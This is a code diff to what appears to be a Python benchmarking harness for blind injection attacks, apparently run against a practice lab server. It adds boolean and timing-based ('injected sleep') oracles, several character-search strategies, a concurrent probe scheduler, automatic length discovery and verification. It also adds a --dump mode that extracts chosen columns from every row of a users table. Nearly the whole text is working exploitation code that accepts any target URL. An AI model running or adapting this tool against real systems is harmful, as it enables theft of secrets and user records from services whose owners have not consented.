+    def next_probes(self) -> List[Probe]:
+        if self.fallback is not None:
+            return self.fallback.next_probes()
+        if self.done or self.waiting:
+            return []
+        self.waiting = True
+        return [Probe(self.pos, DURATION_OP, self.table[0], sleep=self.scale.unit)]
+
+    def feed(self, probe: Probe, answer: Optional[float]) -> None:
+        if self.fallback is not None:
+            self.fallback.feed(probe, answer)
+            return
+
+        self.waiting = False
+        self.attempts += 1
+        if answer is not None:  # None: the probe failed, there is nothing to read
+            self.samples.append(answer)
+            mean = statistics.fmean(self.samples)
+            steps = (mean - self.scale.baseline.mean) / self.scale.unit
+            value = self.table[0] + round(steps)
+            if abs(steps - round(steps)) <= DURATION_MARGIN and value in self.table:
+                self.value = value
+                return
+        if self.attempts >= DURATION_RETRIES:
+            self.fallback = BisectSearch(self.pos, self.table)
+
+
+class LengthSearch:
+    """
+    Exponential probe of LENGTH(token) > 1, 2, 4, ... followed by a binary
+    search of the bracket. Every true answer raises the known lower bound,
+    which is reported through on_bound so positions up to it can be
+    extracted while the search is still running. `probe` swaps the
+    quantity searched, e.g. count_probe for the number of rows.
+    """
+
+    pos = 0
+
+    def __init__(
+        self,
+        on_bound: Callable[[int], None] = lambda lo: None,
+        probe: Callable[[int], Probe] = length_probe,
+    ):
+        self.on_bound = on_bound
+        self.probe = probe
+        self.lo = 0  # LENGTH >= lo
+        self.hi: Optional[int] = None  # LENGTH <= hi once bracketed
+        self.waiting = False
+
+    @property
+    def done(self) -> bool:
+        return self.hi is not None and self.lo >= self.hi
+
+    @property
+    def result(self) -> str:
+        return str(self.lo)
+
+    def remaining(self) -> int:
+        # Everything else is gated on the length, so it always goes first
+        return 0
+
+    def pivot(self) -> int:
+        if self.hi is None:
+            return max(1, 2 * (self.lo - 1))
+        return (self.lo + self.hi) // 2
+
+    def next_probes(self) -> List[Probe]:
+        if self.done or self.waiting:
+            return []
+        self.waiting = True
+        return [self.probe(self.pivot())]
+
+    def feed(self, probe: Probe, answer: bool) -> None:
+        self.waiting = False
+        if answer:
+            self.lo = probe.value + 1
+            self.on_bound(self.lo)
+        else:
+            self.hi = probe.value
+
+
+class CellSearch:
+    """Points another search's probes at one table cell."""
+
+    def __init__(self, inner: Search, row: int, column: str):
+        self.inner = inner
+        self.pos = inner.pos
+        self.row = row
+        self.column = column
+
+    @property
+    def done(self) -> bool:
+        return self.inner.done
+
+    @property
+    def result(self) -> str:
+        return self.inner.result
+
+    def remaining(self) -> int:
+        return self.inner.remaining()
+
+    def next_probes(self) -> List[Probe]:
+        return [
+            replace(probe, row=self.row, column=self.column)
+            for probe in self.inner.next_probes()
+        ]
+
+    def feed(self, probe: Probe, answer: bool) -> None:
+        self.inner.feed(probe, answer)
+
+
+def verify_token(
+    token: List[str], positions: List[int], ask: Callable[[Probe], bool]
+) -> List[int]:
+    """Positions whose recovered character fails an '=' check."""
+    return [pos for pos in positions if not ask(Probe(pos, "=", ord(token[pos - 1])))]
+
+
+async def verify_token_async(
+    token: List[str],
+    positions: List[int],
+    ask: Callable[[Probe], Awaitable[bool | float]],
+    concurrency: int,
+) -> List[int]:
+    """verify_token() with up to `concurrency` '=' checks in flight."""
+    slots = asyncio.Semaphore(concurrency)
+
+    async def check(pos: int) -> bool:
+        async with slots:
+            return await ask(Probe(pos, "=", ord(token[pos - 1])))
+
+    answers = await asyncio.gather(*(check(pos) for pos in positions))
+    return [pos for pos, ok in zip(positions, answers) if not ok]
+
+
+def discover_length(ask: Callable[[Probe], bool]) -> int:
+    length = int(run_search(LengthSearch(), ask))
+    print(f"[length] {length}")
+    return length
+
+
+def run_search(search: Search, ask: Callable[[Probe], bool]) -> str:
+    """Drive a search with a blocking oracle, one probe at a time."""
+    while not search.done:
+        for probe in search.next_probes():
+            search.feed(probe, ask(probe))
+    return search.result
+
+
+# -----------------------
+# Probe scheduler
+# -----------------------
+
+
+class ProbeScheduler:
+    """
+    Global probe queue for the async extractors.
+
+    Every search pushes its ready probes into one priority queue and at
+    most `concurrency` probes are in flight across all of them, so no slot
+    idles while one position waits on a sleep. Searches with the fewest
+    probes left go first, so finished characters stream out early.
+    """
+
+    def __init__(
+        self,
+        ask: Callable[[Probe], Awaitable[bool | float]],
+        concurrency: int,
+        label: str,
+        on_done: Callable[[Search], None],
+    ):
+        self.ask = ask
+        self.concurrency = concurrency
+        self.label = label
+        self.on_done = on_done
+        self.queue: List[Tuple[int, int, Probe, Search]] = []
+        self.seq = itertools.count()
+        self.in_flight = 0
+        self.answered = 0
+        self.samples: List[Tuple[float, float, int]] = []  # (t, req/s, depth)
+        self.changed = asyncio.Condition()
+
+    def submit(self, search: Search) -> None:
+        if search.done:
+            self.on_done(search)
+            return
+
+        for probe in search.next_probes():
+            item = (search.remaining(), next(self.seq), probe, search)
+            heapq.heappush(self.queue, item)
+
+    async def worker(self) -> None:
+        while True:
+            async with self.changed:
+                await self.changed.wait_for(lambda: self.queue or not self.in_flight)
+                if not self.queue:
+                    return
+                _, _, probe, search = heapq.heappop(self.queue)
+                self.in_flight += 1
+
+            answer = await self.ask(probe)
+            search.feed(probe, answer)
+
+            async with self.changed:
+                self.in_flight -= 1
+                self.answered += 1
+                self.submit(search)
+                self.changed.notify_all()
+
+    async def report(self) -> None:
+        start = clock()
+        last = self.answered  # run() may be called again, e.g. to re-extract
+        while True:
+            await asyncio.sleep(REPORT_INTERVAL)
+            rate = (self.answered - last) / REPORT_INTERVAL
+            last = self.answered
+            self.samples.append((clock() - start, rate, len(self.queue)))
+            print(
+                f"[{self.label}] {rate:.1f} req/s | "
+                f"queue={len(self.queue)} in-flight={self.in_flight}"
+            )
+
+    async def run(self) -> None:
+        reporter = asyncio.create_task(self.report())
+        workers = [asyncio.create_task(self.worker()) for _ in range(self.concurrency)]
+        try:
+            await asyncio.gather(*workers)
+        finally:
+            for task in workers + [reporter]:
+                task.cancel()
+
+
 # -----------------------
 # Binary extraction
 # -----------------------
 
 
-def extract_binary(base: str) -> Dict:
-    counter = {"requests": 0}
+def extract_binary(base: str, opts: RunOptions) -> Dict:
+    """
+    With verify, every probe votes on ambiguous readings and the recovered
+    token is confirmed one '=' probe per position. Positions that fail are
+    re-extracted, up to VERIFY_ROUNDS times.
+    """
+    counter = {"requests": 0, "errors": 0}
     token = []
+    table = charset_table(opts.charset)
+    length = opts.length
+    failed: List[int] = []
+    cache = opts.cache if opts.cache is not None else OracleCache()
 
-    with httpx.Client() as client:
-        for pos in range(1, TOKEN_LEN + 1):
-            lo, hi = CHAR_MIN, CHAR_MAX
+    with httpx.Client(transport=transport) as client:
 
-            while lo <= hi:
-                mid = (lo + hi) // 2
-                if oracle(client, base, pos, ">", mid, counter):
-                    lo = mid + 1
-                else:
-                    hi = mid - 1
+        @cache.wrap
+        def ask(probe: Probe) -> bool:
+            return oracle(
+                client, base, probe, counter, opts.model, opts.early_abort, opts.verify
+            )
 
-            token.append(chr(lo))
+        def extract(pos: int) -> str:
+            c = run_search(BisectSearch(pos, table), ask)
+            cache.finish(pos, c)
+            return c
+
+        if length is None:
+            length = discover_length(ask)
+
+        for pos in range(1, length + 1):
+            token.append(cache.found.get(pos) or extract(pos))
             status(f"[binary] pos={pos:02d} → {''.join(token)}")
 
+        if opts.verify:
+            failed = verify_token(token, list(range(1, length + 1)), ask)
+            for _ in range(VERIFY_ROUNDS):
+                if not failed:
+                    break
+                print(f"\n[binary] re-extracting {failed}")
+                for pos in failed:
+                    cache.forget(pos)
+                    token[pos - 1] = extract(pos)
+                failed = verify_token(token, failed, ask)
+            if failed:
+                print(f"\n[binary] unverified positions {failed}")
+
     print()
     return {
         "token": "".join(token),
         "requests": counter["requests"],
+        "errors": counter["errors"],
+        "unverified": failed,
     }
 
 
+@strategy("binary", concurrent=False)
+async def run_binary(base: str, opts: RunOptions) -> Dict:
+    return extract_binary(base, opts)
+
+
 # -----------------------
-# Async binary extraction
+# Async extraction
 # -----------------------
 
 
-async def extract_async_binary(base: str, concurrency: int) -> Dict:
-    counter = {"requests": 0}
-    token = ["?"] * TOKEN_LEN
-    sem = asyncio.Semaphore(concurrency)
+async def extract_async(
+    base: str,
+    opts: RunOptions,
+    label: str,
+    make_search: Callable[[int], Search],
+    setup: Optional[Callable[[httpx.AsyncClient, Dict[str, int]], Awaitable]] = None,
+) -> Dict:
+    """
+    Run one search per position through a shared ProbeScheduler.
+
+    Without a known length, a LengthSearch is scheduled alongside the
+    positions: each position is only submitted once the length search has
+    proven it exists, so extraction of the early positions overlaps the
+    length discovery and nothing past the end is ever probed.
 
-    async with httpx.AsyncClient() as client:
+    With verify, probes vote on ambiguous readings as in extract_binary,
+    and positions failing the '=' check are rescheduled, up to
+    VERIFY_ROUNDS times. `setup` is awaited with the run's client and
+    counter before the first probe, to calibrate on that client.
+    """
+    counter = {"requests": 0, "errors": 0}
+    token: List[str] = []
+    failed: List[int] = []
+    concurrency = opts.concurrency
+    cache = opts.cache if opts.cache is not None else OracleCache()
 
-        async def solve_pos(pos: int):
-            lo, hi = CHAR_MIN, CHAR_MAX
+    async with httpx.AsyncClient(transport=async_transport) as client:
+        if opts.model is not None:
+            await calibrate_async(client, base, opts.model, concurrency, counter)
+        if setup is not None:
+            await setup(client, counter)
 
-            async with sem:
-                while lo <= hi:
-                    mid = (lo + hi) // 2
-                    if await oracle_async(client, base, pos, ">", mid, counter):
-                        lo = mid + 1
-                    else:
-                        hi = mid - 1
+        @cache.wrap_async
+        async def ask(probe: Probe) -> Optional[bool | float]:
+            if probe.op == DURATION_OP:
+                return await oracle_duration_async(client, base, probe, counter)
+            return await oracle_async(
+                client, base, probe, counter, opts.model, opts.early_abort, opts.verify
+            )
 
-            token[pos - 1] = chr(lo)
-            print(f"[async-binary] pos={pos:02d} FOUND '{chr(lo)}' → {''.join(token)}")
+        def found(search: Search) -> None:
+            if isinstance(search, LengthSearch):
+                print(f"[{label}] length={search.result}")
+                return
+            c = search.result
+            token[search.pos - 1] = c
+            cache.finish(search.pos, c)
+            print(f"[{label}] pos={search.pos:02d} FOUND '{c}' → {''.join(token)}")
 
-        tasks = [asyncio.create_task(solve_pos(pos)) for pos in range(1, TOKEN_LEN + 1)]
-        await asyncio.gather(*tasks)
+        def spawn_upto(lo: int) -> None:
+            for pos in range(len(token) + 1, lo + 1):
+                token.append(cache.found.get(pos, "?"))
+                if pos not in cache.found:
+                    scheduler.submit(make_search(pos))
+
+        scheduler = ProbeScheduler(ask, concurrency, label, found)
+        if opts.length is None:
+            scheduler.submit(LengthSearch(spawn_upto))
+        else:
+            spawn_upto(opts.length)
+        await scheduler.run()
+
+        if opts.verify:
+            positions = list(range(1, len(token) + 1))
+            failed = await verify_token_async(token, positions, ask, concurrency)
+            for _ in range(VERIFY_ROUNDS):
+                if not failed:
+                    break
+                print(f"[{label}] re-extracting {failed}")
+                for pos in failed:
+                    cache.forget(pos)
+                    scheduler.submit(make_search(pos))
+                await scheduler.run()
+                failed = await verify_token_async(token, failed, ask, concurrency)
+            if failed:
+                print(f"[{label}] unverified positions {failed}")
 
     print()
     return {
         "token": "".join(token),
         "requests": counter["requests"],
+        "errors": counter["errors"],
+        "unverified": failed,
+    }
+
+
+@strategy("async-binary")
+async def extract_async_binary(base: str, opts: RunOptions) -> Dict:
+    table = charset_table(opts.charset)
+    return await extract_async(
+        base, opts, "async-binary", lambda pos: BisectSearch(pos, table)
+    )
+
+
+@strategy("async-bits")
+async def extract_async_bits(base: str, opts: RunOptions) -> Dict:
+    table = charset_table(opts.charset)
+    return await extract_async(
+        base, opts, "async-bits", lambda pos: BitSearch(pos, table)
+    )
+
+
+@strategy("kary")
+async def extract_async_kary(base: str, opts: RunOptions) -> Dict:
+    table = charset_table(opts.charset)
+    k = opts.fanout
+    return await extract_async(
+        base, opts, f"async-kary-{k}", lambda pos: KarySearch(pos, table, k)
+    )
+
+
+@strategy("duration")
+async def extract_async_duration(base: str, opts: RunOptions) -> Dict:
+    table = charset_table(opts.charset)
+    scale = DurationScale()
+
+    async def setup(client: httpx.AsyncClient, counter: Dict[str, int]) -> None:
+        await calibrate_duration_async(client, base, scale, opts.concurrency, counter)
+
+    return await extract_async(
+        base,
+        opts,
+        "async-duration",
+        lambda pos: DurationSearch(pos, table, scale),
+        setup,
+    )
+
+
+# -----------------------
+# Table dump
+# -----------------------
+
+DUMP_SEARCHES: Dict[str, Callable[[int, List[int], int], Search]] = {
+    "bisect": lambda pos, table, fanout: BisectSearch(pos, table),
+    "bits": lambda pos, table, fanout: BitSearch(pos, table),
+    "kary": lambda pos, table, fanout: KarySearch(pos, table, fanout),
+}
+
+
+async def dump_table(
+    base: str,
+    opts: RunOptions,
+    columns: List[str],
+    make_search: Callable[[int], Search],
+    out: Optional[str] = None,
+) -> Dict:
+    """
+    Dump every row of the users table through one ProbeScheduler.
+
+    A count search proves rows exist, each proven row gets a length search
+    per column and each proven cell position a character search, all
+    sharing one concurrency budget and connection pool. A row is written
+    to `out` as a JSON line the moment its last cell completes. With
+    verify, probes vote on ambiguous readings; cells get no '=' pass.
+    """
+    counter = {"requests": 0, "errors": 0}
+    cells: Dict[Tuple[int, str], List[str]] = {}
+    sized: Set[Tuple[int, str]] = set()
+    rows: Dict[int, Dict[str, str]] = {}
+    cache = opts.cache if opts.cache is not None else OracleCache()
+    sink = open(out, "w") if out else None
+
+    async with httpx.AsyncClient(transport=async_transport) as client:
+        if opts.model is not None:
+            await calibrate_async(client, base, opts.model, opts.concurrency, counter)
+
+        @cache.wrap_async
+        async def ask(probe: Probe) -> bool | float:
+            if probe.op == DURATION_OP:
+                return await oracle_duration_async(client, base, probe, counter)
+            return await oracle_async(
+                client, base, probe, counter, opts.model, opts.early_abort, opts.verify
+            )
+
+        def spawn_cell(row: int, column: str) -> None:
+            value = cells[row, column] = []
+
+            def upto(lo: int) -> None:
+                for pos in range(len(value) + 1, lo + 1):
+                    value.append("?")
+                    scheduler.submit(CellSearch(make_search(pos), row, column))
+
+            scheduler.submit(CellSearch(LengthSearch(upto), row, column))
+
+        def spawn_rows(lo: int) -> None:
+            for row in range(len(cells) // len(columns) + 1, lo + 1):
+                for column in columns:
+                    spawn_cell(row, column)
+
+        def found(search: Search) -> None:
+            if not isinstance(search, CellSearch):
+                print(f"[dump] rows={search.result}")
+                return
+
+            row, column = search.row, search.column
+            if isinstance(search.inner, LengthSearch):
+                sized.add((row, column))
+            else:
+                cells[row, column][search.pos - 1] = search.result
+
+            if all((row, c) in sized and "?" not in cells[row, c] for c in columns):
+                rows[row] = {c: "".join(cells[row, c]) for c in columns}
+                print(f"[dump] row {row}: {rows[row]}")
+                if sink is not None:
+                    sink.write(json.dumps({"row": row} | rows[row]) + "\n")
+                    sink.flush()
+
+        scheduler = ProbeScheduler(ask, opts.concurrency, "dump", found)
+        scheduler.submit(LengthSearch(spawn_rows, count_probe))
+        try:
+            await scheduler.run()
+        finally:
+            if sink is not None:
+                sink.close()
+
+    return {
+        "rows": [rows[row] for row in sorted(rows)],
+        "requests": counter["requests"],
+        "errors": counter["errors"],
     }
 
 
@@ -175,43 +1593,136 @@ async def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--target", required=True)
     parser.add_argument("--concurrency", type=int, default=20)
+    parser.add_argument(
+        "--strategy",
+        nargs="+",
+        choices=STRATEGIES.keys(),
+        default=list(STRATEGIES),
+        help="Strategies to run, in order (default: all)",
+    )
+    parser.add_argument(
+        "--calibrate",
+        action="store_true",
+        help="Fit a fast/slow latency model and use a short injected sleep",
+    )
+    parser.add_argument(
+        "--sleep",
+        type=float,
+        default=CALIBRATED_SLEEP,
+        help=f"Initial injected sleep for calibration (default: {CALIBRATED_SLEEP})",
+    )
+    parser.add_argument(
+        "--early-abort",
+        action="store_true",
+        help="Classify a probe as true once the threshold passes",
+    )
+    parser.add_argument(
+        "--verify",
+        action="store_true",
+        help="Re-query ambiguous probes and confirm each character with '='",
+    )
+    parser.add_argument(
+        "--charset",
+        choices=CHARSETS.keys(),
+        default="alnum",
+        help="Charset the token is drawn from (default: alnum)",
+    )
+    parser.add_argument(
+        "--length",
+        type=int,
+        default=None,
+        help="Token length, discovered through /length when omitted",
+    )
+    parser.add_argument(
+        "--fanout",
+        type=int,
+        nargs="+",
+        default=[4],
+        help="k for the k-ary search, several values compare them (default: 4)",
+    )
+    parser.add_argument(
+        "--dump",
+        nargs="+",
+        metavar="COLUMN",
+        default=None,
+        help="Dump these columns of every users row instead of the token",
+    )
+    parser.add_argument(
+        "--dump-search",
+        choices=DUMP_SEARCHES.keys(),
+        default="bits",
+        help="Per-character search used by --dump (default: bits)",
+    )
+    parser.add_argument(
+        "--out",
+        default=None,
+        help="JSONL file that --dump streams finished rows to",
+    )
+    parser.add_argument(
+        "--checkpoint",
+        default=None,
+        help="Share answers across methods and persist them here to resume runs",
+    )
     args = parser.parse_args()
 
     base = args.target.rstrip("/")
 
-    # Reset once, single token for all methods
-    httpx.post(f"{base}/reset")
+    # Reset once, single token for all methods, unless resuming against it
+    if args.checkpoint is None or not os.path.exists(args.checkpoint):
+        httpx.post(f"{base}/reset")
+
+    opts = RunOptions(
+        concurrency=args.concurrency,
+        model=calibrate(base, args.sleep) if args.calibrate else None,
+        early_abort=args.early_abort,
+        charset=CHARSETS[args.charset],
+        length=args.length,
+        verify=args.verify,
+        cache=OracleCache(args.checkpoint) if args.checkpoint else None,
+    )
+
+    if args.dump:
+        table = charset_table(opts.charset)
+        fanout = args.fanout[0]
+        try:
+            result = await dump_table(
+                base,
+                opts,
+                args.dump,
+                lambda pos: DUMP_SEARCHES[args.dump_search](pos, table, fanout),
+                args.out,
+            )
+        finally:
+            if opts.cache is not None:
+                opts.cache.close()
+        print("\n=== Dump ===")
+        print(
+            f"{len(result['rows'])} rows | {result['requests']} requests | "
+            f"{result['errors']} failed probes"
+        )
+        return
 
     results = {}
     timings = {}
 
-    start = time.perf_counter()
-    results["linear"] = extract_linear(base)
-    timings["linear"] = time.perf_counter() - start
+    for label, strat, run_opts in expand(args.strategy, opts, args.fanout):
+        start = time.perf_counter()
+        results[label] = await strat.run(base, run_opts)
+        timings[label] = time.perf_counter() - start
 
-    start = time.perf_counter()
-    results["binary"] = extract_binary(base)
-    timings["binary"] = time.perf_counter() - start
-
-    start = time.perf_counter()
-    results["async-binary"] = await extract_async_binary(base, args.concurrency)
-    timings["async-binary"] = time.perf_counter() - start
+    if opts.cache is not None:
+        opts.cache.close()
 
     server_stats = httpx.get(f"{base}/stats").json()
 
     print("\n=== Summary ===")
-    print(
-        f"Linear:       {timings['linear']:.1f}s | "
-        f"{results['linear']['requests']} requests"
-    )
-    print(
-        f"Binary:       {timings['binary']:.1f}s | "
-        f"{results['binary']['requests']} requests"
-    )
-    print(
-        f"Async Binary: {timings['async-binary']:.1f}s | "
-        f"{results['async-binary']['requests']} requests"
-    )
+    for label, result in results.items():
+        print(
+            f"{label + ':':<14}{timings[label]:.1f}s | "
+            f"{result['requests']} requests | {result['errors']} failed probes"
+        )
+    if opts.cache is not None:
+        print(f"{'cache hits:':<14}{opts.cache.hits}")
     print(f"Total server requests: {server_stats['requests']}")
     print(f"Token: {server_stats['token']}")
 